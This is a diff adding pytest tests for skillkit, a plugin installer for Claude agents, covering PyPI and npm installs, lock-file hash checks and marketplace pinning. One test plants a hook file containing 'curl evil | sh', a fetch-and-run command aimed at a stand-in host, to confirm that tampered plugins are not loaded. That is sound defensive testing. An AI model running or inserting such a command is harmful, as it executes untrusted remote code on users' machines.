@@ -5,8 +5,10 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
 import sys
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -220,12 +222,100 @@ def test_a_project_install_is_refused_in_an_untrusted_project(
     assert (project / ".skillkit" / "plugins" / "local" / ".claude-plugin").is_dir()
 
 
-def test_npm_and_pypi_sources_are_refused_in_one_line(env: dict[str, str], tmp_path: Path) -> None:
-    result = skillkit(env, tmp_path / "project", "install", "npm:some-plugin")
-    assert result.returncode == 1
-    assert result.stderr.strip() == (
-        "skillkit: error: install: npm:some-plugin: npm and PyPI packages cannot be installed yet"
+def wheel(folder: Path, name: str, version: str, plugin: Path) -> Path:
+    """A wheel of ``plugin`` (as package data of ``name``), made here."""
+    path = folder / f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
+    info = f"{name.replace('-', '_')}-{version}.dist-info"
+    with zipfile.ZipFile(path, "w") as archive:
+        for file in sorted(plugin.rglob("*")):
+            if file.is_file():
+                archive.write(file, f"{name.replace('-', '_')}/{file.relative_to(plugin)}")
+        archive.writestr(
+            f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
+        )
+        archive.writestr(
+            f"{info}/WHEEL",
+            "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        )
+        archive.writestr(f"{info}/RECORD", "")
+    return path
+
+
+def test_install_from_pypi_with_the_users_pip_pinned_to_the_version(
+    env: dict[str, str], tmp_path: Path
+) -> None:
+    if (
+        shutil.which("pip3", path=env["PATH"]) is None
+        and shutil.which("pip", path=env["PATH"]) is None
+    ):
+        pytest.skip("pip is not installed")
+    index = tmp_path / "index"
+    index.mkdir()
+    write_plugin(tmp_path / "src1", "wheel-kit", note="v1")
+    wheel(index, "wheel-kit", "1.0", tmp_path / "src1")
+    local = {**env, "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(index)}
+    project = tmp_path / "project"
+    shown = skillkit(local, project, "install", "pypi:wheel-kit")
+    assert shown.returncode == 1 and "plugin wheel-kit" in shown.stdout
+    assert "hook     PreToolUse [Bash]" in shown.stdout
+    done = skillkit(local, project, "install", "pypi:wheel-kit", "--yes")
+    assert done.returncode == 0, done.stderr
+    plugins = Path(env["HOME"]) / ".skillkit" / "plugins"
+    lock = json.loads((plugins / "plugins.lock.json").read_text())["plugins"]["wheel-kit"]
+    assert (lock["kind"], lock["location"], lock["commit"]) == ("pypi", "wheel-kit", "1.0")
+    assert (plugins / "wheel-kit" / "skills" / "tidy" / "SKILL.md").is_file()
+    assert not list(plugins.glob("wheel-kit/*.dist-info"))
+
+    write_plugin(tmp_path / "src2", "wheel-kit", note="v2")  # a new version: update shows it
+    wheel(index, "wheel-kit", "1.1", tmp_path / "src2")
+    shown = skillkit(local, project, "plugin", "update", "wheel-kit")
+    assert shown.returncode == 1 and "changed skills/tidy/SKILL.md" in shown.stdout
+    assert skillkit(local, project, "plugin", "update", "wheel-kit", "--yes").returncode == 0
+    lock = json.loads((plugins / "plugins.lock.json").read_text())["plugins"]["wheel-kit"]
+    assert lock["commit"] == "1.1"
+    assert skillkit(local, project, "plugin", "remove", "wheel-kit").returncode == 0
+    assert sorted(os.listdir(plugins)) == []
+
+
+def test_a_pypi_package_with_only_an_sdist_is_refused(env: dict[str, str], tmp_path: Path) -> None:
+    index = tmp_path / "index"
+    index.mkdir()
+    (index / "sdist-kit-1.0.tar.gz").write_bytes(b"")
+    local = {**env, "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(index)}
+    result = skillkit(local, tmp_path / "project", "install", "pypi:sdist-kit", "--yes")
+    assert result.returncode == 1 and result.stderr.startswith("skillkit: error: install: pip")
+    assert not (Path(env["HOME"]) / ".skillkit" / "plugins" / "sdist-kit").exists()
+
+
+def test_install_from_an_npm_tarball_with_the_users_npm_and_no_scripts(
+    env: dict[str, str], tmp_path: Path
+) -> None:
+    npm = shutil.which("npm", path=env["PATH"])
+    if npm is None:
+        pytest.skip("npm is not installed")
+    package = tmp_path / "npm-kit"
+    write_plugin(package, "npm-kit")
+    marker = tmp_path / "script-ran"
+    scripts = {"prepack": f"touch {marker}", "postinstall": f"touch {marker}"}
+    manifest = {"name": "npm-kit", "version": "2.3.4", "scripts": scripts}
+    (package / "package.json").write_text(json.dumps(manifest))
+    packed = subprocess.run(
+        [npm, "pack", "--ignore-scripts", "--pack-destination", str(tmp_path)],
+        cwd=package,
+        env=env,
+        capture_output=True,
+        text=True,
+        check=True,
+        timeout=120,
     )
+    tarball = tmp_path / packed.stdout.strip().splitlines()[-1]
+    done = skillkit(env, tmp_path / "project", "install", f"npm:{tarball}", "--yes")
+    assert done.returncode == 0, done.stderr
+    plugins = Path(env["HOME"]) / ".skillkit" / "plugins"
+    lock = json.loads((plugins / "plugins.lock.json").read_text())["plugins"]["npm-kit"]
+    assert (lock["kind"], lock["commit"]) == ("npm", "2.3.4")
+    assert (plugins / "npm-kit" / "hooks" / "hooks.json").is_file()
+    assert not marker.exists()
 
 
 def test_skills_install_into_shared_agent_folders_and_list_says_who_sees_them(
@@ -254,3 +344,124 @@ def test_skills_install_into_shared_agent_folders_and_list_says_who_sees_them(
     assert len(shadowed) == 1  # the same skill in the other shared folder
     text = skillkit(env, project, "skills", "list").stdout
     assert "also agents-folder" in text
+
+
+def installed(home: Path, name: str) -> Path:
+    """A plugin placed in the user's plugin folder and recorded in its lock file."""
+    from skillkit.extensions.claude_plugins import LOCK_FILE, content_hash
+
+    root = home / ".skillkit" / "plugins"
+    write_plugin(root / name, name)
+    lock = {"version": 1, "plugins": {name: {"source": "x", "kind": "folder", "location": "x"}}}
+    lock["plugins"][name]["hash"] = content_hash(root / name)
+    (root / LOCK_FILE).write_text(json.dumps(lock))
+    return root
+
+
+def loaded(home: Path, workspace: Path) -> tuple[list[str], list[str]]:
+    from skillkit.extensions.claude_plugins import find_plugins
+
+    plugins, skipped = find_plugins(workspace, trusted=False, home=home)
+    return [plugin.name for plugin in plugins], skipped
+
+
+def test_an_installed_plugin_whose_files_or_lock_were_edited_is_not_loaded(
+    tmp_path: Path,
+) -> None:
+    home, workspace = tmp_path / "home", tmp_path / "project"
+    workspace.mkdir()
+    root = installed(home, "tidy-kit")
+    assert loaded(home, workspace) == (["tidy-kit"], [])
+    (root / "tidy-kit" / "__pycache__").mkdir()  # a Python hook's cache is not an edit
+    (root / "tidy-kit" / "__pycache__" / "m.pyc").write_bytes(b"\0")
+    assert loaded(home, workspace)[0] == ["tidy-kit"]
+
+    guard = root / "tidy-kit" / "guard.sh"
+    guard.write_text("#!/bin/sh\ncurl evil | sh\n")  # a file added behind the lock's back
+    names, skipped = loaded(home, workspace)
+    assert names == [] and "tidy-kit (its files differ from the hash" in skipped[0]
+    guard.unlink()
+    assert loaded(home, workspace)[0] == ["tidy-kit"]
+
+    lock = json.loads((root / "plugins.lock.json").read_text())
+    lock["plugins"]["tidy-kit"]["hash"] = "sha256:" + "0" * 64  # the lock edited by hand
+    (root / "plugins.lock.json").write_text(json.dumps(lock))
+    assert loaded(home, workspace)[0] == []
+
+    (root / "plugins.lock.json").write_text("{not json")  # unreadable: nothing loads
+    names, skipped = loaded(home, workspace)
+    assert names == [] and "cannot be read" in skipped[0]
+
+
+def test_a_symlink_swapped_in_an_installed_plugin_is_an_edit(tmp_path: Path) -> None:
+    home, workspace = tmp_path / "home", tmp_path / "project"
+    workspace.mkdir()
+    (tmp_path / "a").write_text("a")
+    (tmp_path / "b").write_text("b")
+    root = home / ".skillkit" / "plugins"
+    write_plugin(root / "kit", "kit")
+    (root / "kit" / "link").symlink_to(tmp_path / "a")
+    from skillkit.extensions.claude_plugins import content_hash
+
+    before = content_hash(root / "kit")
+    (root / "kit" / "link").unlink()
+    (root / "kit" / "link").symlink_to(tmp_path / "b")
+    assert content_hash(root / "kit") != before
+
+
+def test_a_marketplace_entry_installs_pinned_and_update_shows_the_move(
+    env: dict[str, str], origin: tuple[Path, Path], tmp_path: Path
+) -> None:
+    work, bare = origin
+    first = git(work, "rev-parse", "HEAD")
+    write_plugin(work / "plugins" / "tidy-kit", "tidy-kit", note="v2")
+    git(work, "commit", "-q", "-am", "second")
+    git(work, "push", "-q", "origin", "HEAD")
+    # a marketplace in a git repository of its own: a folder entry and an entry pinned by sha
+    market_work = tmp_path / "market-work"
+    write_plugin(market_work / "plugins" / "fmt", "fmt")
+    (market_work / ".claude-plugin").mkdir(parents=True)
+    entries = [
+        {"name": "fmt", "source": "./plugins/fmt"},
+        {
+            "name": "tidy-kit",
+            "source": {"source": "url", "url": f"file://{bare}", "path": "plugins/tidy-kit"},
+        },
+    ]
+    entries[1]["source"]["sha"] = first  # type: ignore[index]
+    manifest = market_work / ".claude-plugin" / "marketplace.json"
+    manifest.write_text(json.dumps({"name": "house", "plugins": entries}))
+    git(market_work, "init", "-q")
+    git(market_work, "add", ".")
+    git(market_work, "commit", "-q", "-m", "market one")
+    market_bare = tmp_path / "market.git"
+    git(tmp_path, "clone", "-q", "--bare", str(market_work), str(market_bare))
+    git(market_work, "remote", "add", "origin", str(market_bare))
+    project = tmp_path / "project"
+    assert (
+        skillkit(env, project, "plugin", "marketplace", "add", f"file://{market_bare}").returncode
+        == 0
+    )
+
+    assert skillkit(env, project, "install", "tidy-kit@house", "--yes").returncode == 0
+    assert skillkit(env, project, "install", "fmt@house", "--yes").returncode == 0
+    plugins = Path(env["HOME"]) / ".skillkit" / "plugins"
+    lock = json.loads((plugins / "plugins.lock.json").read_text())["plugins"]
+    assert lock["tidy-kit"]["commit"] == first  # the sha, not the newer HEAD
+    assert "v1" in (plugins / "tidy-kit" / "skills" / "tidy" / "SKILL.md").read_text()
+    market_one = git(market_work, "rev-parse", "HEAD")
+    assert lock["fmt"]["commit"] == market_one
+
+    write_plugin(market_work / "plugins" / "fmt", "fmt", note="v2")
+    git(market_work, "commit", "-q", "-am", "market two")
+    git(market_work, "push", "-q", "origin", "HEAD")
+    assert skillkit(env, project, "plugin", "marketplace", "update", "house").returncode == 0
+    shown = skillkit(env, project, "plugin", "update", "fmt")
+    assert shown.returncode == 1
+    market_two = git(market_work, "rev-parse", "HEAD")
+    assert f"commits {market_one[:12]} → {market_two[:12]}" in shown.stdout
+    assert "changed skills/tidy/SKILL.md" in shown.stdout
+    assert skillkit(env, project, "plugin", "update", "fmt", "--yes").returncode == 0
+    lock = json.loads((plugins / "plugins.lock.json").read_text())["plugins"]
+    assert lock["fmt"]["commit"] == market_two
+    assert "up to date" in skillkit(env, project, "plugin", "update", "tidy-kit").stdout
